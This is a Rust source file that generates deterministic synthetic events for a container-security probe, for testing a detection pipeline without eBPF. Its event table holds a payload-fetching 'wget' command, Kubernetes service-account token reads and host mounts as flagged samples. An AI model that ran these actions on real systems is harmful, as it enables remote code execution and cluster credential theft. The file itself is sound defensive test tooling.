//! The synthetic source: a realistic, deterministic mix of the events the probe records
//! (wget and other tool execs, service-account secret reads, suspicious mounts) for a set of
//! containers, without eBPF.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use conanchor_store::Event;
use tokio::sync::mpsc;

use crate::pipeline::SourceMsg;
use crate::util::now_ns;

/// A container the synthetic source pretends to watch.
#[derive(Debug, Clone)]
pub struct SyntheticContainer {
    pub container_instance_id: String,
    pub container_id: String,
    pub cgroup_id: u64,
}

impl SyntheticContainer {
    /// `count` containers named after `base` (`base` itself when there is one).
    pub fn named(base: &str, count: usize) -> Vec<SyntheticContainer> {
        (0..count.max(1))
            .map(|i| {
                let id = if count <= 1 {
                    base.to_string()
                } else {
                    format!("{base}-{}", i + 1)
                };
                SyntheticContainer {
                    container_instance_id: id.clone(),
                    container_id: id,
                    cgroup_id: 40_000 + i as u64,
                }
            })
            .collect()
    }

    /// `count` containers that look like containerd pods (64-hex ids).
    pub fn kubernetes_like(count: usize, seed: u64) -> Vec<SyntheticContainer> {
        let mut rng = Rng(seed ^ 0xC0A7_A1C4);
        (0..count.max(1))
            .map(|i| {
                let hex: String = (0..4).map(|_| format!("{:016x}", rng.next_u64())).collect();
                let id = format!("cri-containerd-{hex}");
                SyntheticContainer {
                    container_instance_id: id.clone(),
                    container_id: id,
                    cgroup_id: 50_000 + i as u64,
                }
            })
            .collect()
    }
}

/// splitmix64: small, fast, deterministic.
#[derive(Debug, Clone)]
pub struct Rng(pub u64);

impl Rng {
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
}

struct Kind {
    weight: u64,
    event_type: &'static str,
    comm: &'static str,
    path: &'static str,
    extra: &'static str,
    flags: u64,
    risk: &'static str,
    policy: &'static str,
}

const KINDS: &[Kind] = &[
    Kind {
        weight: 30,
        event_type: "exec",
        comm: "wget",
        path: "/usr/bin/wget",
        extra: "wget -q http://203.0.113.7/payload.sh",
        flags: 0,
        risk: "high",
        policy: "wget-exec",
    },
    Kind {
        weight: 30,
        event_type: "file_open",
        comm: "cat",
        path: "/var/run/secrets/kubernetes.io/serviceaccount/token",
        extra: "",
        flags: 0,
        risk: "high",
        policy: "service-account-secret-read",
    },
    Kind {
        weight: 10,
        event_type: "file_open",
        comm: "python3",
        path: "/run/secrets/kubernetes.io/serviceaccount/namespace",
        extra: "",
        flags: 0,
        risk: "medium",
        policy: "service-account-secret-read",
    },
    Kind {
        weight: 8,
        event_type: "file_open",
        comm: "kubectl",
        path: "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
        extra: "",
        flags: 0,
        risk: "medium",
        policy: "service-account-secret-read",
    },
    Kind {
        weight: 8,
        event_type: "mount",
        comm: "mount",
        path: "/proc",
        extra: "fstype=proc source=proc",
        flags: 0,
        risk: "high",
        policy: "suspicious-mount",
    },
    Kind {
        weight: 5,
        event_type: "mount",
        comm: "mount",
        path: "/host",
        extra: "fstype=overlay source=overlay",
        flags: 0,
        risk: "high",
        policy: "suspicious-mount",
    },
    Kind {
        weight: 5,
        event_type: "mount",
        comm: "mount",
        path: "/sys/fs/cgroup",
        extra: "fstype=cgroup2 source=cgroup2",
        flags: 0,
        risk: "high",
        policy: "suspicious-mount",
    },
    Kind {
        weight: 4,
        event_type: "mount",
        comm: "mount",
        path: "/mnt/data",
        extra: "fstype=sysfs source=sysfs",
        flags: 1,
        risk: "medium",
        policy: "suspicious-mount",
    },
];

/// One synthetic event for `c` (sequence numbers are the writer's job).
pub fn synthetic_event(rng: &mut Rng, c: &SyntheticContainer, timestamp_ns: u64) -> Event {
    let total: u64 = KINDS.iter().map(|k| k.weight).sum();
    let mut pick = rng.below(total);
    let kind = KINDS
        .iter()
        .find(|k| {
            if pick < k.weight {
                true
            } else {
                pick -= k.weight;
                false
            }
        })
        .unwrap_or(&KINDS[0]);
    let pid = 1000 + rng.below(30_000) as u32;
    let uid = if rng.below(4) == 0 { 1000 } else { 0 };
    Event {
        global_seq: 0,
        container_seq: 0,
        timestamp_ns,
        event_type: kind.event_type.to_string(),
        pid,
        tgid: pid,
        uid,
        gid: uid,
        comm: kind.comm.to_string(),
        path: kind.path.to_string(),
        extra: kind.extra.to_string(),
        flags: kind.flags,
        retval: 0,
        cgroup_id: c.cgroup_id.to_string(),
        container_id: c.container_id.clone(),
        container_instance_id: c.container_instance_id.clone(),
        risk: kind.risk.to_string(),
        policy: kind.policy.to_string(),
    }
}

#[derive(Debug, Clone)]
pub struct SyntheticConfig {
    pub containers: Vec<SyntheticContainer>,
    /// Events per second over all containers; 0 = as fast as the pipeline takes them.
    pub rate: u64,
    /// Events per container, then stop; `None` = until stopped.
    pub count_per_container: Option<u64>,
    pub seed: u64,
}

/// Runs the source on its own thread until `stop`, the count, or the pipeline hanging up.
/// Returns the number of events sent.
pub fn spawn(
    cfg: SyntheticConfig,
    tx: mpsc::Sender<SourceMsg>,
    stop: Arc<AtomicBool>,
) -> std::thread::JoinHandle<u64> {
    std::thread::spawn(move || {
        let mut rng = Rng(cfg.seed);
        let n = cfg.containers.len() as u64;
        let limit = cfg.count_per_container.map(|c| c.saturating_mul(n));
        let started = Instant::now();
        let mut sent = 0u64;
        while !stop.load(Ordering::Relaxed) && limit.is_none_or(|l| sent < l) {
            if cfg.rate > 0 {
                let due = (started.elapsed().as_secs_f64() * cfg.rate as f64) as u64;
                if sent >= due {
                    std::thread::sleep(Duration::from_millis(2));
                    continue;
                }
            }
            let c = &cfg.containers[(sent % n) as usize];
            let ev = synthetic_event(&mut rng, c, now_ns());
            if tx.blocking_send(SourceMsg::Event(Box::new(ev))).is_err() {
                break;
            }
            sent += 1;
        }
        sent
    })
}
